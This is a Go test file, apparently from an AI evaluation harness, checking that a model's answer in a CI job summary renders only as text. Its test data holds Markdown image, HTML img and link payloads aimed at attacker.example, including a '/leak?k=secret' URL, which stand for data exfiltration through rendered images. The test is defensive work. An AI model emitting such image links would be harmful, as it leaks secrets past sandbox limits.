package pipeline

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/harness-dev/harness/internal/mdtext/mdtexttest"
	"github.com/harness-dev/harness/record"
)

// TestSummaryShowsAnswersAsText: a batch's summary is appended to a CI
// job's summary, which GitHub renders, fetching every image in it. A
// model's answer there is text: no image that would send what the run
// read to a host the sandbox never let it reach, no link, no HTML, and a
// task's name that holds Markdown is text too.
func TestSummaryShowsAnswersAsText(t *testing.T) {
	dir := t.TempDir()
	answer := "done ![x](https://attacker.example/leak?k=secret) <img src=https://attacker.example/i> [click](https://attacker.example) `code` | cell"
	runDir := filepath.Join(dir, "batch", "t1")
	if err := os.MkdirAll(runDir, 0o755); err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(record.Result{Type: record.TypeResult, Version: 1, Status: "succeeded", Answer: answer})
	if err := os.WriteFile(filepath.Join(runDir, record.FileResult), b, 0o644); err != nil {
		t.Fatal(err)
	}
	res := &record.PipelineResult{Dir: dir, Status: "succeeded", Tasks: []record.PhaseOutcome{
		{Name: "t1 ![y](https://attacker.example/name)", Status: "succeeded", RunDir: "batch/t1", Message: "<b>message</b>"},
	}}
	out := filepath.Join(dir, "summary.md")
	if err := WriteSummary(out, res); err != nil {
		t.Fatal(err)
	}
	md, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	html := mdtexttest.RenderGFM(t, md)
	for _, bad := range []string{"<img", "<a ", "<code", "<b>", "raw HTML"} {
		if strings.Contains(html, bad) {
			t.Errorf("the summary renders %s:\n%s\n%s", bad, md, html)
		}
	}
	if n := strings.Count(html, "<td>"); n != 6 {
		t.Errorf("the task's row has %d cells, want 6:\n%s", n, html)
	}
	if !strings.Contains(html, "attacker.example/leak?k=secret") {
		t.Errorf("the answer is not shown as text:\n%s", html)
	}
}
